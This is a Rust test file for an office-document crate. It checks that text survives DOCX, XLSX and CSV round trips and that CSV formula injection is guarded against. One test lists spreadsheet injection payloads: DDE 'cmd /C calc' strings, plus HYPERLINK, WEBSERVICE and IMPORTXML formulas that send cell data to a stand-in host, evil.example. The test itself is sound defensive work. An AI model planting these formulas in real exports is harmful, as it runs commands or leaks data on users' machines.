//! The same text in every format: what is written as document, workbook and delimited text reads back, to the letter.
#![allow(missing_docs, reason = "tests")]

use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use office_files::{
    DateTime, Language, Limits, Value, WriteError, clean,
    csv::{Dialect, Field, Writer, guard, restore},
    docx::{self, Block, Document, Kind, Level, Paragraph, Read, Span},
    read,
    workbook::{Cell, Column, Sheet, Workbook, pieces},
};
use proptest::prelude::*;

/// What people write, what formats give a meaning to, and everything else.
fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => "[A-Za-zåäöÅÄÖ0-9 .,–]{0,40}",
        2 => "[;,\t\"\n\r|='_x&<>+@ÅÖ\\-]{0,10}",
        1 => "[=+\\-@＝＋－＠'\t\r\n\u{0}\u{a0}\u{200b}\u{feff} ]{1,3}[a-z]{0,4}",
        1 => "[a-z א-ת ا-ي0-9().\u{200e}\u{200f}\u{202a}-\u{202e}\u{2066}-\u{2069}]{0,20}",
        1 => "(_x[0-9A-F]{4}_|]]>|&amp;|<!\\[CDATA\\[|\u{0}|\u{b}|\u{1f}|\u{ad}|\u{2011}|\u{fffe}|\u{ffff}|\r\n|[a-z ]){0,12}",
        2 => any::<String>(),
    ]
}

fn created() -> DateTime {
    DateTime::new(2027, 3, 12, 0).expect("a day")
}

/// A text as the crate's own readers of tables give it; none where they see nothing or refuse.
fn seen(text: &str) -> Option<String> {
    let odd = text.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\n'));
    (!odd && !text.chars().all(char::is_whitespace)).then(|| text.to_owned())
}

fn document(texts: &[String]) -> Vec<u8> {
    let mut document = Document::new("x", Language::SWEDISH, created());
    document.show_title = false;
    let mut table = docx::Table::new(vec![1; texts.len()]);
    table.header(texts);
    table.row::<docx::Cell>(texts.iter().map(|text| Paragraph::from(text.as_str()).kind(Kind::Bullet).into()));
    for text in texts {
        document.push(Block::paragraph(text.as_str()));
        document.push(Block::clause("1", text.as_str()));
        // In three spans, divided anywhere between characters.
        let mut places = text.char_indices().map(|(place, _)| place).step_by(3);
        let middle = places.nth(1).unwrap_or(text.len());
        let spans = [Span::from(&text[..middle]).bold(), Span::from(&text[middle..]), Span::default()];
        document.push(Block::heading(Level::One, spans));
    }
    document.push(table);
    document.to_bytes().expect("a document")
}

fn workbook(rows: &[Vec<String>]) -> Vec<u8> {
    let columns: Vec<Column> = (0..rows[0].len()).map(|n| Column::new(format!("c_{n}"), format!("Rubrik {n}"), 30.0)).collect();
    let mut sheet = Sheet::new("Blad", columns);
    for row in rows {
        sheet.row(row.iter().map(|text| Cell::from(text.as_str())).collect::<Vec<_>>());
    }
    let mut workbook = Workbook::new("x", Language::SWEDISH, created());
    workbook.push(sheet);
    workbook.to_bytes().expect("a workbook")
}

fn delimited(dialect: Dialect, rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = Writer::new(Vec::new(), dialect).expect("a beginning");
    writer.row((0..rows[0].len()).map(|n| format!("Rubrik {n}"))).expect("headings");
    for row in rows {
        writer.row(row).expect("a row");
    }
    writer.finish().expect("an end").0
}

fn grid() -> impl Strategy<Value = Vec<Vec<String>>> {
    (1..5_usize).prop_flat_map(|width| prop::collection::vec(prop::collection::vec(text(), width..=width), 1..6))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 160, ..ProptestConfig::default() })]

    #[test]
    fn in_documents(texts in prop::collection::vec(text(), 1..5)) {
        let content = docx::read(&document(&texts), &Limits::default()).expect("it reads");
        let mut blocks = content.blocks.iter();
        // Pieces of a text that was divided are cleaned one by one: a CR and its LF are two line ends then.
        let apart = |text: &str| clean(text).into_owned();
        for text in &texts {
            let mut next = || match blocks.next() {
                Some(Read::Paragraph(paragraph)) => (paragraph.style.as_str(), paragraph.text.clone()),
                other => panic!("{other:?}"),
            };
            prop_assert_eq!(next(), ("Normal", apart(text)));
            prop_assert_eq!(next(), ("Clause", format!("1\t{}", apart(text))));
            let (style, heading) = next();
            prop_assert_eq!((style, heading.replace('\n', "")), ("Heading1", apart(text).replace('\n', "")));
        }
        let Some(Read::Table { header_rows: 1, rows }) = blocks.next() else { panic!("no table") };
        for row in rows {
            let cells: Vec<String> = row.iter().flatten().map(|paragraph| paragraph.text.clone()).collect();
            prop_assert_eq!(cells, texts.iter().map(|text| apart(text)).collect::<Vec<_>>());
        }
    }

    /// Read by the crate's own reader, and by `calamine`.
    #[test]
    fn in_workbooks(rows in grid()) {
        let file = workbook(&rows);
        let table = read(&file, &Limits::default()).expect("it reads");
        let mut other = Xlsx::new(Cursor::new(&file)).expect("calamine opens it");
        let range = other.worksheet_range("Blad").expect("its sheet");
        for (row, number) in rows.iter().zip(2..) {
            let found = table.rows.iter().find(|found| found.number == number);
            for (text, column) in row.iter().zip(0..) {
                let value = found.and_then(|found| found.cell(column)).and_then(|cell| cell.value.clone().ok());
                prop_assert_eq!(value, seen(&clean(text)).map(Value::Text));
                if let Some(Data::String(theirs)) = range.get_value((number - 1, column)) {
                    prop_assert_eq!(theirs, &*clean(text));
                } else {
                    prop_assert_eq!(&*clean(text), "");
                }
            }
        }
    }

    /// Read by the crate's own reader, and by `csv`.
    #[test]
    fn in_delimited_text(rows in grid(), excel in any::<bool>()) {
        let dialect = if excel { Dialect::Excel } else { Dialect::Plain };
        let file = delimited(dialect, &rows);
        let table = read(&file, &Limits::default()).expect("it reads");
        for (row, number) in rows.iter().zip(2..) {
            let found = table.rows.iter().find(|found| found.number == number);
            for (text, column) in row.iter().zip(0..) {
                let value = found.and_then(|found| found.cell(column)).and_then(|cell| cell.value.clone().ok());
                let value = value.map(|value| match value {
                    Value::Text(text) => restore(&text).to_owned(),
                    other => panic!("{other:?}"),
                });
                prop_assert_eq!(value, seen(&guard(&clean(text))).map(|_| clean(text).into_owned()));
            }
        }
        let bare = file.strip_prefix("\u{feff}".as_bytes());
        prop_assert_eq!(bare.is_some(), excel);
        let mut reader = csv::ReaderBuilder::new().delimiter(if excel { b';' } else { b',' }).from_reader(bare.unwrap_or(&file));
        let found: Vec<Vec<String>> =
            reader.records().map(|record| record.expect("a record").iter().map(|cell| restore(cell).to_owned()).collect()).collect();
        let expected: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(|text| clean(text).into_owned()).collect()).collect();
        prop_assert_eq!(found, expected);
    }

    #[test]
    fn guarded_and_back(text in text()) {
        let begins = guard(&text);
        prop_assert_eq!(restore(&begins), &text);
        prop_assert!(!begins.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0']), "{begins:?}");
    }

    #[test]
    fn in_pieces(text in text(), times in 1..4000_usize) {
        let long = text.repeat(times);
        let found = pieces(&long);
        prop_assert_eq!(found.concat(), long.as_str());
        prop_assert!(found.iter().all(|piece| piece.encode_utf16().count() <= 32_767));
    }
}

/// What spreadsheets are known to run: see CWE-1236 and what OWASP says of CSV injection.
#[test]
fn formulas_are_guarded() {
    let corpus = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Fel: klicka här\")",
        "=WEBSERVICE(\"https://evil.example\")",
        "=IMPORTXML(CONCAT(\"https://evil.example?v=\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n+1",
        "\0=1+1",
        "\u{1}=1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{ad}=1+1",
        "\u{202e}=1+1",
        "\u{2066}=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "\ttext",
        "\rtext",
        "'=1+1",
        "''",
    ];
    for text in corpus {
        assert!(guard(text).starts_with('\''), "{text:?}");
        assert_eq!(restore(&guard(text)), text);
        for dialect in [Dialect::Excel, Dialect::Plain] {
            let file = delimited(dialect, &[vec![text.to_owned()]]);
            let table = read(&file, &Limits::default()).expect("it reads");
            let Ok(Value::Text(found)) = &table.rows[0].cells[0].value else { panic!("{text:?}") };
            assert!(found.starts_with('\''), "{found:?}");
            assert_eq!(restore(found), clean(text));
        }
    }
    for text in ["", "text", "1-2", "a=b", "a@b.se", "5 °C", "–5", "−5", "§ 4", "(=1)", "\"=1\"", "#"] {
        assert_eq!(guard(text), text, "guarded without need");
    }
}

#[test]
fn numbers_days_and_counts() {
    let day = DateTime::new(2027, 4, 1, 0).expect("a day");
    let time = DateTime::new(2027, 4, 1, 30_600).expect("a time");
    let rows = |dialect| {
        let mut writer = Writer::new(Vec::new(), dialect).expect("a beginning");
        writer.row::<Field<'_>>(["ID".into(), (-2.5).into(), day.into(), time.into()]).expect("a row");
        writer.row::<Field<'_>>(["=1".into(), 1e6.into(), "'x".into(), "a;b,c\td".into()]).expect("a row");
        let (file, written) = writer.finish().expect("an end");
        assert_eq!((written.rows, written.guarded), (2, 2));
        String::from_utf8(file).expect("UTF-8")
    };
    assert_eq!(rows(Dialect::Excel), "\u{feff}\"ID\";-2,5;2027-04-01;2027-04-01 08:30:00\r\n'=1;1000000;''x;\"a;b,c\td\"\r\n");
    assert_eq!(rows(Dialect::Plain), "\"ID\",-2.5,2027-04-01,2027-04-01 08:30:00\r\n'=1,1000000,''x,\"a;b,c\td\"\r\n");
}

#[test]
fn rows_that_are_none() {
    let mut writer = Writer::new(Vec::new(), Dialect::Plain).expect("a beginning");
    writer.row(["a", "b"]).expect("a row");
    assert!(matches!(writer.row(["a"]), Err(WriteError::RowWidth { cells: 1, columns: 2 })));
    writer.row(["c", ""]).expect("what was refused has left nothing behind");
    assert_eq!(writer.finish().expect("an end").0, b"\"a\",b\r\nc,\r\n");

    let mut writer = Writer::new(Vec::new(), Dialect::Plain).expect("a beginning");
    writer.row(["a"]).expect("a row");
    writer.row([""]).expect("a row");
    assert!(matches!(writer.row([f64::NAN]), Err(WriteError::Number)));
    assert_eq!(writer.finish().expect("an end").0, b"\"a\"\r\n\"\"\r\n");

    let (nothing, written) = Writer::new(Vec::new(), Dialect::Excel).expect("a beginning").finish().expect("an end");
    assert_eq!((nothing.as_slice(), written.rows), ("\u{feff}".as_bytes(), 0));
}

/// One text in all three, in one order.
#[test]
fn the_same_in_all() {
    let texts: Vec<String> = ["Första", "=andra", " tredje\nrad", "שלום (4)", "_x0041_"].into_iter().map(str::to_owned).collect();
    let rows: Vec<Vec<String>> = texts.iter().map(|text| vec![text.clone()]).collect();
    let cells = |file: &[u8]| {
        let table = read(file, &Limits::default()).expect("it reads");
        let values = table.rows.into_iter().flat_map(|row| row.cells).map(|cell| cell.value.expect("a value"));
        values
            .map(|value| match value {
                Value::Text(text) => text,
                other => panic!("{other:?}"),
            })
            .collect::<Vec<_>>()
    };
    let delimited: Vec<String> = cells(&delimited(Dialect::Excel, &rows)).iter().map(|text| restore(text).to_owned()).collect();
    assert_eq!(delimited, texts);
    assert_eq!(cells(&workbook(&rows)), texts);
    let content = docx::read(&document(&texts), &Limits::default()).expect("it reads");
    let found: Vec<&str> = content.paragraphs().filter(|p| p.style == "Normal").map(|p| p.text.as_str()).collect();
    assert_eq!(found, texts);
}
